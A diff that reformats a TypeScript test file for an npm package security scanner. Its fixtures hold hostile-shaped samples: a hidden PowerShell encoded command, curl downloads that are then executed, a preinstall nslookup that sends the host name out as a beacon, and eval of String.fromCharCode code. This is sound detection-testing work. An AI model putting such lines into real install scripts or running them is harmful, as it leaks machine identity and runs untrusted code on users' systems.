@@ -5,8 +5,10 @@ import { analyzeContent } from '../../src/analyzers/content/index.js';
 import { scanShell } from '../../src/analyzers/content/shell-scan.js';
 import { filesOf } from './helpers.js';
 
-const manifest = (scripts?: Record<string, string>, extra: Record<string, unknown> = {}): string => JSON.stringify({ name: 'p', version: '1.0.0', ...(scripts ? { scripts } : {}), ...extra });
-const rules = async (entries: Record<string, string>): Promise<string[]> => (await analyzeContent(filesOf(entries), 'p')).findings.map((f) => `${f.rule}:${f.severity}`);
+const manifest = (scripts?: Record<string, string>, extra: Record<string, unknown> = {}): string =>
+  JSON.stringify({ name: 'p', version: '1.0.0', ...(scripts ? { scripts } : {}), ...extra });
+const rules = async (entries: Record<string, string>): Promise<string[]> =>
+  (await analyzeContent(filesOf(entries), 'p')).findings.map((f) => `${f.rule}:${f.severity}`);
 
 test('shell: bare OAST / tunnel host names are endpoints, ordinary dotted words are not', () => {
   const eps = (s: string) => scanShell(s, 'x.sh').endpoints.map((e) => `${e.category}:${e.host}`);
@@ -17,7 +19,9 @@ test('shell: bare OAST / tunnel host names are endpoints, ordinary dotted words 
 
 test('shell: PowerShell -EncodedCommand is decode-to-shell; a short -e flag value is not', () => {
   const idioms = (s: string) => scanShell(s, 'x.cmd').hits.map((h) => h.idiom);
-  assert.deepEqual(idioms('powershell -nop -w hidden -enc VwByAGkAdABlAC0ATwB1AHQAcAB1AHQAIAAnAGQAZQBmAGEAbgBnAGUAZAAnAA=='), ['decode-to-shell']);
+  assert.deepEqual(idioms('powershell -nop -w hidden -enc VwByAGkAdABlAC0ATwB1AHQAcAB1AHQAIAAnAGQAZQBmAGEAbgBnAGUAZAAnAA=='), [
+    'decode-to-shell',
+  ]);
   assert.deepEqual(idioms('powershell -ExecutionPolicy Bypass -File build.ps1 -e Release'), []);
 });
 
@@ -26,22 +30,39 @@ test('shell: a downloaded archive that is unpacked, then a different file made e
   assert.deepEqual(idioms('curl -L https://dl.example.invalid/tool.tar.gz -o tool.tar.gz\ntar -xzf tool.tar.gz\nchmod +x bin/tool'), []);
   assert.deepEqual(idioms('curl -L https://dl.example.invalid/tool -o tool\necho done\nchmod 755 tool'), ['download-exec']);
   assert.deepEqual(idioms('curl -L https://dl.example.invalid/tool -o /tmp/tool\nif true; then /tmp/tool --x; fi'), ['download-exec']);
-  assert.deepEqual(idioms('curl -o ./b.dmg https://dl.example.invalid/b.dmg\nhdiutil attach -nobrowse ./b.dmg\nsudo installer -pkg /tmp/b.dmg -target /'), [], 'the download as an argument of another command is data');
+  assert.deepEqual(
+    idioms('curl -o ./b.dmg https://dl.example.invalid/b.dmg\nhdiutil attach -nobrowse ./b.dmg\nsudo installer -pkg /tmp/b.dmg -target /'),
+    [],
+    'the download as an argument of another command is data',
+  );
 });
 
 test('install: machine identity printed locally is no finding; sent in DNS labels it is a beacon', async () => {
   assert.deepEqual(await rules({ 'package.json': manifest({ postinstall: 'echo "built on $(hostname) by $(whoami)"' }) }), []);
   // Whatever the domain, the host name travels to the domain's name server: the dependency-confusion beacon shape.
-  assert.deepEqual(await rules({ 'package.json': manifest({ preinstall: 'nslookup $(hostname).corp.example.com || true' }) }), ['content/identity-beacon:high']);
+  assert.deepEqual(await rules({ 'package.json': manifest({ preinstall: 'nslookup $(hostname).corp.example.com || true' }) }), [
+    'content/identity-beacon:high',
+  ]);
 });
 
 test('binding.gyp with ordinary command expansions: implicit install script, no finding', async () => {
-  const gyp = '{ "targets": [ { "target_name": "a", "include_dirs": ["<!(node -p \\"require(\'node-addon-api\').include\\")"], "libraries": ["<!@(pkg-config --libs glib-2.0)"] } ] }\n';
+  const gyp =
+    '{ "targets": [ { "target_name": "a", "include_dirs": ["<!(node -p \\"require(\'node-addon-api\').include\\")"], "libraries": ["<!@(pkg-config --libs glib-2.0)"] } ] }\n';
   const { findings, facts } = await analyzeContent(filesOf({ 'package.json': manifest(), 'binding.gyp': gyp }), 'p');
-  assert.deepEqual(findings.map((f) => f.rule), []);
+  assert.deepEqual(
+    findings.map((f) => f.rule),
+    [],
+  );
   assert.equal(facts.installScripts[0]?.implicit, 'binding.gyp');
-  const withScript = await analyzeContent(filesOf({ 'package.json': manifest({ install: 'prebuild-install || node-gyp rebuild' }), 'binding.gyp': gyp }), 'p');
-  assert.deepEqual(withScript.facts.installScripts.map((s) => s.implicit), [undefined], 'an explicit install script replaces the implicit one');
+  const withScript = await analyzeContent(
+    filesOf({ 'package.json': manifest({ install: 'prebuild-install || node-gyp rebuild' }), 'binding.gyp': gyp }),
+    'p',
+  );
+  assert.deepEqual(
+    withScript.facts.installScripts.map((s) => s.implicit),
+    [undefined],
+    'an explicit install script replaces the implicit one',
+  );
   const optedOut = await analyzeContent(filesOf({ 'package.json': manifest(undefined, { gypfile: false }), 'binding.gyp': gyp }), 'p');
   assert.deepEqual(optedOut.facts.installScripts, []);
 });
@@ -55,5 +76,7 @@ test('fromCharCode in a UTF-8 decoder and short code lists next to eval: no enco
   ].join('\n');
   assert.deepEqual(await rules({ 'package.json': manifest(), 'index.js': js }), []);
   const codes = [...'console.log(1)'].map((c) => c.charCodeAt(0)).join(',');
-  assert.deepEqual(await rules({ 'package.json': manifest(), 'index.js': `eval(String.fromCharCode(${codes}));\n` }), ['content/encoded-exec:high']);
+  assert.deepEqual(await rules({ 'package.json': manifest(), 'index.js': `eval(String.fromCharCode(${codes}));\n` }), [
+    'content/encoded-exec:high',
+  ]);
 });
